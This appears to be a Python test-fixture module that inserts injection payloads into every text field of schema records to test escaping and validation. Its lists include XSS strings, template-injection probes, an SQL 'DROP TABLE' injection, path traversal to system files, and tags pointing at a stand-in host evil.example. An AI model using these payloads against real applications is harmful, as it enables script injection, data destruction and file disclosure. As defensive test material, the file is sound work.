"""Injection payloads (HTML, scripts, templates, SQL, bidirectional text) for every text field."""

from collections.abc import Iterator
from dataclasses import dataclass

from schema.declaration.datatypes import LINE, Kind
from schema.declaration.shapes import Field, Shape
from vocab.concept_schemes import CONCEPT_SCHEMES
from vocab.turtle_parser import LANGUAGES

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT\u00a0><b>x",
    "<!--<script>",
    "<!-- -->x<!--",
    "-->",
    "<![CDATA[x]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!doctype html>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,1'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<plaintext>",
    "<noscript><p title='</noscript><b>'>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<b>'>x</a>",
    "<form action=//evil.example><input>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<table><tr><td></table></div></main></body></html>",
    "</p></bdi></li></ul></dd></dl>",
    "<p dir=rtl>",
    "<b",
    "<",
    "</",
    ">",
    "<<<>>>",
    '"',
    "'",
    "`",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"}]}</script><b>',
    '\\"}; alert(1)//',
    "\\u003cscript\\u003e",
    "&lt;b&gt; &amp; &quot; &#39; &#60;b&#62;",
    "&notanentity; &#x3c;b&#x3e; &copy",
    "{{7*7}}",
    "{{ config }} {{ self.__init__ }}",
    "{% raw %}{% include 'x' %}",
    "{# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3E %00 %0d%0a",
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "' OR 1=1; DROP TABLE projects; --",
    "\u200fright \u05e9\u05dc\u05d5\u05dd left",
    "\u061c\u0645\u0631\u062d\u0628\u0627 a b",
    "\u200e<b>\u200f</b>",
    "a\u200bb\u200cc\u200dd",
    "a\u2060b\u00adc",
    "\u00e9\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f1\U0001f1fb",
    "＜script＞alert(1)＜/script＞",
    "\u02bascript\u02ba \u2039b\u203a",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "=1+1 +1 -1 @x",
]
"""Each fits into the shortest field that accepts any line of text."""

IRIS = [
    "http://example.org/'onmouseover='alert(1)",
    "https://example.org/?a=1&b=2&lt;script&gt;",
    "https://example.org/javascript:alert(1)",
    "https://user:password@example.org:8080/",
    "http://пример.example/ā?š=ž#ķ",
    "https://example.org/%22%3E%3Cscript%3E",
    "https://example.org/{}".format("x" * 2_000),
]
"""Valid IRIs that contain payloads."""

NO_IRIS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    'http://example.org/"onmouseover="alert(1)',
    "http://example.org/<script>",
    "http://example.org/{{7*7}}",
    "http://example.org/ javascript:alert(1)",
    "https:javascript:alert(1)",
]
"""Texts that are not valid IRIs, most of them payloads."""


@dataclass
class HostileFields:
    """Fields of a record whose texts have the language, the name of the field and a group of payloads.

    `number` selects the group. If `plain`, each text is replaced by a harmless one of the same length.
    """

    number: int
    plain: bool = False

    def record(self, shape: Shape) -> dict[str, object]:
        """Return the fields of a record without the id."""
        values = {field.name: self._value(field) for field in shape.stated_fields if field.name != "id"}
        return {name: value for name, value in values.items() if value is not None}

    def text(self, field: Field, tag: str) -> str:
        """Return the text of a field in a language."""
        prefix = f"{tag} {field.name} "
        groups = list(_groups((field.limits.max_length or 0) - len(prefix)))
        text = prefix + groups[self.number % len(groups)]
        return "".join("x" if character != " " else character for character in text) if self.plain else text

    def _value(self, field: Field) -> object:
        match field.kind:
            case Kind.TEXT:
                return {tag: self.text(field, tag) for tag in LANGUAGES}
            case Kind.TEXTS:
                return {tag: [self.text(field, tag)] for tag in LANGUAGES}
            case Kind.STRING if field.limits.pattern == LINE:
                return self.short()
            case Kind.IRI:
                return [IRIS[0]] if field.is_list else IRIS[self.number % len(IRIS)]
            case Kind.PART if field.part:
                return self._part(field, field.part)
            case Kind.CONCEPT if field.required:
                return CONCEPT_SCHEMES[field.target].codes[0]
            case _:
                return _REQUIRED_VALUES.get(field.name) if field.required else None

    def _part(self, field: Field, shape: Shape) -> object:
        return [{"id": "one", **self.record(shape)}] if field.is_list else self.record(shape)

    def short(self) -> str:
        """Return one payload, short enough for any line."""
        payload = PAYLOADS[self.number % len(PAYLOADS)]
        return "x" * len(payload) if self.plain else payload


_REQUIRED_VALUES = {"value": "1250.00", "currency": "EUR", "pointer": "", "language": "en"}


def _groups(max_length: int) -> Iterator[str]:
    """Yield all payloads, joined to texts of at most `max_length` characters."""
    group = ""
    for payload in PAYLOADS:
        if group and len(group) + 1 + len(payload) > max_length:
            yield group
            group = ""
        group = f"{group} {payload}" if group else payload
    yield group


GROUPS = len(list(_groups(450)))
"""Number of records whose texts have all payloads together; a line has one payload per record."""
